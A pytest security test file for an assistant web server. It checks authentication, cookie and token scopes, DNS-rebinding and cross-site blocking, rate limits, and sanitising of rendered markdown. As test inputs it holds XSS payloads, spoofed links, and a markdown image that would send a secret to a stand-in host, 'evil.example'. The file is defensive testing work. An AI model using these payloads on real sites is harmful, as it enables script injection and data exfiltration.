"""Attacks on the server: all are refused."""

from __future__ import annotations

import asyncio
import re
from types import SimpleNamespace

import pytest
from how_long import some
from oneclaw_serve import plugin_routes
from oneclaw_serve.access import Access
from oneclaw_serve.application import endpoints
from oneclaw_serve.errors import Refusal
from oneclaw_serve.markdown import GrowingText, render
from oneclaw_serve.service import check_exposure
from oneclaw_serve.settings import ServeSettings
from starlette.requests import Request

from oneclaw_core import SettingsError, hookimpl
from oneclaw_core.plugins import WebResponse

ROUTES = [(each.method, re.sub(r"\{[^}]*\}", "1", each.path), each.scope) for each in endpoints()]


def test_no_route_answers_a_stranger(serving):
    async def work(rig):
        found = {}
        async with rig.client() as client:
            for method, path, _ in ROUTES:
                found[method, path] = (await client.request(method, path)).status_code
        return found

    assert set(serving.run(work).values()) == {401}


@pytest.mark.parametrize(
    ("changed", "statuses"),
    some(
        [
            ({"Host": "evil.example"}, {421}),
            ({"Host": "evil.example:8311", "Origin": "http://evil.example:8311"}, {421}),  # DNS rebinding
            ({"Origin": "https://evil.example", "Sec-Fetch-Site": "cross-site"}, {403}),
            ({"Sec-Fetch-Site": "cross-site"}, {403}),
            ({"Sec-Fetch-Site": "same-site"}, {403}),  # the page of another port, with our cookie
            ({"X-Forwarded-For": "127.0.0.1"}, {400}),
        ],
        4,
    ),
)
def test_a_cookie_does_not_help_other_sites(serving, changed, statuses):
    async def work(rig):
        found = set()
        async with await rig.browser() as client:
            for method, path, _ in ROUTES:
                found.add((await client.request(method, path, headers=changed)).status_code)
        return found

    assert serving.run(work) == statuses


def test_a_form_of_another_site_begins_nothing(serving):
    async def work(rig):
        async with await rig.browser() as client:
            plain = {"Content-Type": "text/plain"}
            sent = await client.post("/api/sessions", content="{}", headers=plain)
            client.headers.pop("Sec-Fetch-Site")
            client.headers.pop("Origin")
            bare = await client.post("/api/sessions", json={})
            return sent.status_code, bare.status_code

    assert serving.run(work) == (415, 403)


def test_a_link_works_once_and_wrong_ones_are_counted(serving):
    async def work(rig):
        async with rig.client(Origin=rig.origin) as client:
            first = await client.post("/login", json={"code": rig.code})
            stolen = await client.post("/login", json={"code": rig.code})
            wrong = [(await client.post("/login", json={"code": f"x{n}"})).status_code for n in range(10)]
            return first, stolen.status_code, wrong

    first, stolen, wrong = serving.run(work)
    cookie = first.headers["set-cookie"]
    assert all(each in cookie for each in ("HttpOnly", "SameSite=strict", "oneclaw_"))
    assert (stolen, wrong[:9], wrong[9]) == (401, [401] * 9, 429)


def test_a_token_does_what_its_scopes_allow_and_never_approves(serving):
    async def work(rig):
        found = {}
        async with await rig.program("read") as client:
            for method, path, scope in ROUTES:
                status = (await client.request(method, path)).status_code
                found.setdefault(scope, set()).add(status == 403)
        async with await rig.program("chat", "read", "tools", "manage", name="all") as client:
            approving = await client.post("/api/approvals/1", json={"answer": "once"})
        async with await rig.program("chat:Nobody", name="one") as client:
            other = await client.post(
                "/v1/chat/completions",
                json={"model": "General Assistant", "messages": [{"role": "user", "content": "x"}]},
            )
            listed = (await client.get("/v1/models")).json()["data"]
        return found, approving.status_code, other.status_code, listed

    found, approving, other, listed = serving.run(work)
    assert found == {"read": {False}, "chat": {True}, "tools": {True}, "manage": {True}, "person": {True}}
    assert (approving, other, listed) == (403, 404, [])


def test_a_revoked_token_and_a_logged_out_browser_are_strangers(serving):
    async def work(rig):
        from oneclaw_core.http import ServerTokens

        async with await rig.program() as client:
            await ServerTokens(rig.storage).revoke("script")
            revoked = await client.get("/api/sessions")
        async with await rig.browser() as client:
            cookies = dict(client.cookies)
            await client.post("/logout", json={})
            client.cookies.update(cookies)
            return revoked.status_code, (await client.get("/api/sessions")).status_code

    assert serving.run(work) == (401, 401)


def test_a_new_token_inherits_nothing_of_a_revoked_one_of_its_name(serving):
    async def work(rig):
        from oneclaw_core.http import ServerTokens

        tokens = ServerTokens(rig.storage)
        access = Access(rig.storage, "cookie")
        before = await access._of_token(await tokens.create("twice", ["sessions.read"]), None)
        await tokens.revoke("twice")
        after = await access._of_token(await tokens.create("twice", ["sessions.read"]), None)
        return before.key == after.key, await access.is_valid(before), await access.is_valid(after)

    assert serving.run(work) == (False, False, True)


def test_routes_of_plugins_are_behind_the_guard_and_cannot_weaken_it(serving):
    async def work(rig):
        async with rig.client(Cookie="x=y") as client:
            return (await client.get("/Weather/page")).status_code, await client.get("/Weather/hook/bell")

    private, public = serving.run(work)
    assert private == 401
    assert public.text.startswith("bell")
    assert "cookie" not in public.text
    assert "set-cookie" not in public.headers
    assert "sandbox" in public.headers["content-security-policy"]


def test_public_routes_see_no_token_of_ours_and_no_long_body(serving):
    async def pieces():
        for _ in range(11):
            yield b"0123456789"

    async def work(rig):
        async with await rig.program("chat") as client:
            ours = await client.post("/Weather/upload", content=b"0" * 100)
            chunked = await client.post("/Weather/upload", content=pieces())
        async with rig.client(Authorization="Bearer theirs") as client:
            theirs = await client.post("/Weather/upload")
            long = await client.post("/Weather/upload", content=b"0" * 101)
        return ours.text, theirs.text, chunked.status_code, long.status_code

    assert serving.run(work) == ("100 None", "0 Bearer theirs", 413, 413)


def test_public_routes_have_a_rate_limit(serving, monkeypatch):
    monkeypatch.setattr(plugin_routes, "PUBLIC_REQUESTS_PER_MINUTE", 2)

    async def work(rig):
        async with rig.client() as client:
            return [(await client.get("/Weather/hook/bell")).status_code for _ in range(3)]

    assert serving.run(work) == [200, 200, 429]


class Bell:
    @hookimpl
    def register_routes(self, register):
        async def ring(context, request):
            return WebResponse(body="rung")

        register("ring", ring, is_public=True)


def test_a_source_behind_the_proxy_takes_no_route_from_others(oneclaw_factory, monkeypatch):
    monkeypatch.setattr(plugin_routes, "PUBLIC_REQUESTS_PER_MINUTE", 2)

    async def scene():
        async def nothing():
            return {"type": "http.request", "body": b""}

        async def status(source):
            scope = {"type": "http", "method": "GET", "path": "/Bell/ring", "query_string": b"", "path_params": {}}
            scope |= {"client": ("192.0.2.1", 1), "headers": [(b"x-forwarded-for", source)], "app": app}
            try:
                return (await route.endpoint(Request(scope, nothing))).status_code
            except Refusal as refused:
                return refused.status

        async with oneclaw_factory(["serve", Bell()]).opened() as claw:
            site = SimpleNamespace(claw=claw, proxies={"192.0.2.1"})
            app = SimpleNamespace(state=SimpleNamespace(site=site))
            (route,) = plugin_routes.plugin_routes(site)
            return [await status(each) for each in [b"198.51.100.7"] * 3 + [b"203.0.113.9"]]

    assert asyncio.run(scene()) == [200, 200, 429, 200]


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[x](javascript:alert(1))",
        "![a](https://evil.example/?q=secret)",
        '[x](https://a.example "onclick=alert(1)")',
        "```<script>\nalert(1)\n```",
        "|a|\n|:-:|\n|<svg onload=alert(1)>|",
    ],
)
def test_markdown_brings_no_script_and_loads_nothing(text):
    shown = render(text) + "".join(GrowingText().add(text))
    assert not re.search(r"<(script|img|svg|style)|href=.javascript|style=|<[^>]* on\w+=", shown)


def test_a_growing_text_ends_as_the_whole():
    text = "# Title\n\nOne *two*.\n\n```py\na = 1\n\n\nb = 2\n```\n\n- x\n\n- y\n\nEnd."
    growing, done = GrowingText(), ""
    for character in text:
        done += growing.add(character)[0]
    finished, rest = growing.add("", is_last=True)
    assert done + finished + rest == render(text)


def test_the_end_of_a_growing_text_is_not_rendered_for_each_piece():
    growing = GrowingText()
    assert growing.add("One ") == ("", render("One "))
    assert growing.add("*two*") == ("", None)
    assert growing.is_behind
    assert growing.add("", is_last=True) == ("", render("One *two*"))
    assert not growing.is_behind


def test_it_listens_to_other_machines_only_with_a_named_host_and_proxy():
    check_exposure("127.0.0.1", ServeSettings())
    with pytest.raises(SettingsError, match="public_hosts"):
        check_exposure("0.0.0.0", ServeSettings())  # this is what is refused
    with pytest.raises(SettingsError, match="proxies"):
        check_exposure("0.0.0.0", ServeSettings(public_hosts=("claw.example.org",)))
    with pytest.raises(ValueError, match="not a host name"):
        ServeSettings(public_hosts=("https://claw",))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("[bank.example](https://evil.example/x)", "bank.example</a> (evil.example)"),
        ("[click here](https://evil.example/x)", "click here</a> (evil.example)"),
        ("[https://bank.example](https://bank.example.evil.example)", "</a> (bank.example.evil.example)"),
        ("[bank.example@evil](https://bank.example@evil.example/)", "</a> (evil.example)"),
        ("![chart](https://evil.example/c.png)", "chart</a> (evil.example)"),
        ("<https://good.example/x>", "good.example/x</a></p>"),
        ("[good.example/x](https://good.example/x)", "good.example/x</a></p>"),
        ("a \u202etxet b", "a \\u202etxet b"),
        ("`a\u200bb`", "<code>a\\u200bb</code>"),
    ],
)
def test_links_show_their_host_and_nothing_is_reordered(text, shown):
    assert shown in render(text)
